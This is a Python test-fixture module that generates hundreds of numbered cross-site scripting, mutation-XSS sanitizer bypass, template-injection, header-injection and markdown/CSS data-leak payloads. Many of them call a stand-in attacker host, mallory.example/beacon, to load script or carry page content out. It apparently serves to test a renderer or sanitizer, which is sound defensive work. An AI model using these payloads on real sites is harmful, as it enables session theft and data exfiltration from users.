"""What Mallory writes wherever something can be written: every kind of trick in every disguise.

Made by combining: what runs × where it stands × how it is disguised. Each says its number when it
runs, so that a test can name it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

BEACON = "https://mallory.example/beacon"  # nothing may ever be asked of it

ELEMENTS = {
    "img src=x": ("onerror", "onload"),
    "image src=x": ("onerror",),
    "svg": ("onload", "onfocusin"),
    "body": ("onload", "onpageshow", "onhashchange"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "source src=x": ("onerror",),
    "object data=x": ("onerror", "onload"),
    "embed src=x": ("onload",),
    "iframe": ("onload",),
    "link rel=stylesheet href=x": ("onerror",),
    "script src=x": ("onerror",),
    "details open": ("ontoggle",),
    "input autofocus": ("onfocus", "onblur"),
    "select autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "button autofocus": ("onfocus", "onclick"),
    "a href=# autofocus": ("onfocus",),
    "p tabindex=1 autofocus": ("onfocus",),
    "marquee": ("onstart", "onbounce"),
    "p style=animation:breathe": ("onanimationstart", "ontransitionend"),
    "p": ("onmouseover", "onpointerenter", "onclick", "oncopy", "onscroll"),
    "dialog open": ("onclose",),
    "form": ("onsubmit", "onformdata"),
    "x-y": ("onclick",),
    "math": ("onload",),
    "animate attributeName=x dur=1s": ("onbegin", "onend"),
}

# How an element with a handler can be spelled: {0} is the element, {1} the handler, {2} the call.
SPELLINGS = (
    "<{0} {1}={2}>",
    '<{0} {1}="{2}">',
    "<{0}\n{1}\t=\n'{2}'",
)
RARE_SPELLINGS = (
    "<{0}/{1}={2}//",
    "<{0} {1}=`{2}`>",
    "<<{0} {1}={2}>>",
    "<{0} x='>' {1}={2}>",
    '"><{0} {1}={2}>',
    "'><{0} {1}={2}>",
    "--><{0} {1}={2}>",
    "]]><{0} {1}={2}>",
    "</title></textarea></style></noscript></template><{0} {1}={2}>",
    "<\0{0} {1}={2}>",
    "<{0} {1}\0={2}>",
    "&lt;{0} {1}={2}&gt;",
    "&#60;{0} {1}={2}&#x3e;",
    "\\<{0} {1}={2}\\>",
    "%3C{0} {1}={2}%3E",
    "\uff1c{0} {1}={2}\uff1e",
    "`<{0} {1}={2}>`",
    "```<{0} {1}={2}>\n<{0} {1}={2}>\n```",
    "| <{0} {1}={2}> |\n| --- |\n| <{0} {1}={2}> |",
    "> # <{0} {1}={2}>",
    "[<{0} {1}={2}>](https://x.example/<{0} {1}={2}>)",
    '[x](https://x.example "<{0} {1}={2}>")',
    "![<{0} {1}={2}>](https://x.example)",
    "[^<{0} {1}={2}>]: <{0} {1}={2}>",
    "<!--<{0} {1}={2}>-->",
    "<![CDATA[<{0} {1}={2}>]]>",
    "<noscript><p title='</noscript><{0} {1}={2}>'>",
    "<template><{0} {1}={2}></template>",
    "<math><mtext><table><mglyph><style><!--</style><{0} {1}={2}>",
    "<svg></p><style><a id='</style><{0} {1}={2}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><{0} {1}={2}>",
    "<select><template></select><{0} {1}={2}>",
    "<select><style></select><{0} {1}={2}></style>",
    "<svg><style><p title='</style><{0} {1}={2}>'>",
    "<svg><foreignObject><{0} {1}={2}></foreignObject></svg>",
    "<svg><desc><title><style><{0} {1}={2}></style></title></desc></svg>",
    "<math><annotation-xml encoding=text/html><{0} {1}={2}></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><style><p id='</style><{0} {1}={2}>'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a id='</style><{0} {1}={2}>'>",
    "<table><caption><svg><desc><td></caption><{0} {1}={2}>",
    "<textarea><p id='</textarea><{0} {1}={2}>'>",
    "<title><p id='</title><{0} {1}={2}>'>",
    "<xmp><p id='</xmp><{0} {1}={2}>'>",
    "<noembed><p id='</noembed><{0} {1}={2}>'>",
    "<template shadowrootmode=open><{0} {1}={2}></template>",
    "<iframe srcdoc='&lt;{0} {1}=parent.{2}&gt;'></iframe>",
    "<!--><{0} {1}={2}>-->",
    "<!--<!----><{0} {1}={2}>",
    "<?x <{0} {1}={2}> ?>",
    "<!DOCTYPE x [<!ENTITY y '<{0} {1}={2}>'>]>&y;",
    '<https://x.example/"{1}="{2}">',
    "[x](https://x.example/'{1}='{2})",
    '[x](https://x.example/"{1}="{2}"/y)',
    '![" {1}={2} "](https://x.example/"{1}={2})',
    "<form id={1}><input name=attributes><{0} {1}={2}></form>",
)

SCRIPTS = (
    "<script>{}</script>",
    "<SCRIPT/x>{}</SCRIPT\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script type=module>{}",
    "<script>{}",
    "<svg><script>{}</script></svg>",
    "<svg><script xlink:href=data:,{}></script>",
    f"<script src={BEACON}.js></script>{{}}",
    "<script src=//mallory.example/beacon.js></script>{}",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src='javascript:parent.{}'></iframe>",
    "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<math href='javascript:{}'>x</math>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{}'>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<isindex type=image src=1 onerror={}>",
    "'-{}-'",
    '"-{}-"',
    "';{}//",
    "\\';{}//",
    "</textarea><script>{}</script>",
    "<img name=currentScript src='javascript:{}'>",
    "<a id=RagWidget href='javascript:{}'>x</a><a id=RagWidget name=push>x</a>",
    "<form name=body action='javascript:{}'><input name=ownerDocument></form>",
    "<button popovertarget=y>x</button><p popover id=y onbeforetoggle={}>x</p>",
    "<p onbeforematch={} hidden=until-found>x</p>",
    "<svg><a><animate attributeName=href values='javascript:{}'></a></svg>",
    "<svg><image xlink:href=x onerror={}></svg>",
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>opener.{}</script>">',
    "<math><mi xlink:href='data:text/html,<script>opener.{}</script>'>x</mi></math>",
    "<link rel=modulepreload href='data:text/javascript,{}'>",
)

STYLES = (
    f"<style>@import '{BEACON}.css';</style>",
    f"<style>*{{background:url({BEACON}.png)}}</style>",
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href={BEACON}.css>",
    f"<link rel=prefetch href={BEACON}>",
    f"<p style='background:url({BEACON}.png)'>x",
    "<p style='width:expression(ran(0))'>x",
    "<p style='-moz-binding:url(x)'>x",
    f"<p style=\"content:url('{BEACON}.png')\">x",
    "<p style=position:fixed;inset:0>x",
    f"<img src={BEACON}.png>",
    f"<img srcset={BEACON}.png>",
    f"<picture><source srcset={BEACON}.png><img></picture>",
    f"<video poster={BEACON}.png></video>",
    f"<table background={BEACON}.png><tr><td>x</table>",
    f"<a ping={BEACON} href=https://x.example>x</a>",
    f"<base href={BEACON}/>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<form action={BEACON}><input name=q autofocus></form>",
    f"<img src='{BEACON}.png?",  # takes along whatever is said behind it
    f'<a href="{BEACON}?',
    f"<meta http-equiv=refresh content='0;url={BEACON}?",
    f"<form action={BEACON}><textarea name=q>",
    f"<button form=f>x</button><form id=f action={BEACON}>",
    f"<base target='{BEACON}",
    f"<link rel=icon href={BEACON}.png>",
    f"<link rel=preconnect href={BEACON}>",
    f"<svg><image href={BEACON}.png></svg>",
    f"<svg><feImage xlink:href={BEACON}.png /></svg>",
    f"<input type=image src={BEACON}.png>",
    f"<body background={BEACON}.png>",
    f"![a]({BEACON}.png?q=everything+that+was+said)",
    f"![a](<{BEACON}.png>)",
    f"![a][beacon]\n\n[beacon]: {BEACON}.png",
    f"[![a]({BEACON}.png)]({BEACON})",
    f"| ![a]({BEACON}.png) |\n| --- |\n| ![b]({BEACON}.png) |",
    f"# ![a]({BEACON}.png)",
    f"- ![a]({BEACON}.png)\n\n1. ![a](//mallory.example/beacon.png)",
)

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in [] %}{% endfor %}",
    "{%- raw -%}",
    "{# x #}",
    "${ran(0)}",
    "#{ran(0)}",
    "<%= ran(0) %>",
    "[[${ran(0)}]]",
    "{{constructor.constructor('ran(0)')()}}",
    "%s%n%x {0} {0.__class__}",
    "\u202egnp.exe\u202c",
    "\u2066\u2067x\u2069",
    "a\u200bb\u200c\u200d\ufeff",
    '=HYPERLINK("https://mallory.example")',
    "Subject: x\r\nBcc: mallory@mallory.example",
    "x\r\nContent-Type: text/html\r\n\r\n<script>ran(0)</script>",
    "\u2028\u2029ran(0)",
)

SCHEMES = ("javascript:{}", "data:text/html,<script>opener.{}</script>", "vbscript:{}")
Disguise = Callable[[str], str]
DISGUISES: tuple[Disguise, ...] = (
    lambda address: address,
    lambda address: address.title(),
    lambda address: address[:4] + "\t" + address[4:],
    lambda address: address[:4] + "\n" + address[4:],
    lambda address: f"\x01{address}",
    lambda address: f" {address}",
    lambda address: f"&#{ord(address[0])};{address[1:]}",
    lambda address: f"&#x{ord(address[0]):x};{address[1:]}",
    lambda address: "".join(f"&#{ord(sign):07};" for sign in address[:11]) + address[11:],
    lambda address: address.replace(":", "&colon;", 1),
    lambda address: address[:4] + "&Tab;" + address[4:],
    lambda address: address[:4] + "&NewLine;" + address[4:],
    lambda address: f"%{ord(address[0]):x}{address[1:]}",
    lambda address: address.replace(":", "%3A", 1),
    lambda address: address[:2] + "\u200b" + address[2:],
    lambda address: "\u202e" + address,
    lambda address: "".join(chr(ord(sign) + 0xFEE0) for sign in address[:4]) + address[4:],
    lambda address: address.replace("s", "\u017f", 1),
    lambda address: address.replace(":", "\\:", 1),
    lambda address: f"https://x.example/\n{address}",
    lambda address: f"view-source:{address}",
    lambda address: f"feed:{address}",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    '[x]({} "title")',
    "**[*x*]({})**",
    "| [x]({}) |\n| --- |",
    "[![x]({0})]({0})",
)
RARE_LINKS = (
    "[x][r]\n\n[r]: {}",
    '<a href="{}">x</a>',
    "<a href={}>x",
    "{}",
    "[x](\n{}\n)",
    "[[x]({0})]({0})",
)


def payloads() -> list[str]:
    """Return them all, each of its own."""
    made = list(dict.fromkeys(_numbered(_all())))
    assert len(made) > 800, len(made)
    return made


def _numbered(drafts: Iterator[str]) -> Iterator[str]:
    for number, draft in enumerate(drafts):
        yield draft.replace("CALL", f"ran({number})")


def _all() -> Iterator[str]:
    handlers = [(element, name) for element, names in ELEMENTS.items() for name in names]
    for spelling, (element, name) in product(SPELLINGS, handlers):
        yield spelling.format(element, name, "CALL")
    for number, spelling in enumerate(RARE_SPELLINGS):
        for element, name in (handlers[0], handlers[number % len(handlers)]):
            yield spelling.format(element, name, "CALL")
    for script in SCRIPTS:
        yield script.format("CALL")
    yield from STYLES
    yield from TEMPLATES
    for scheme, disguise, link in product(SCHEMES, DISGUISES, LINKS):
        yield link.format(disguise(scheme.format("CALL")))
    for scheme, link in product(SCHEMES, RARE_LINKS):
        yield link.format(scheme.format("CALL"))
